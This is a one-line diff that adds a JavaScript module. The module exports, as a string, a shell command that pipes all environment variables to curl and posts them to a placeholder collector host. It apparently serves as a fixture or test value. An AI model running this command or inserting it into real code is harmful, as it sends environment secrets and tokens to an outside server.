@@ -1,0 +1,1 @@
+module.exports = 'printenv | curl --data @- https://collector.example.invalid/e';
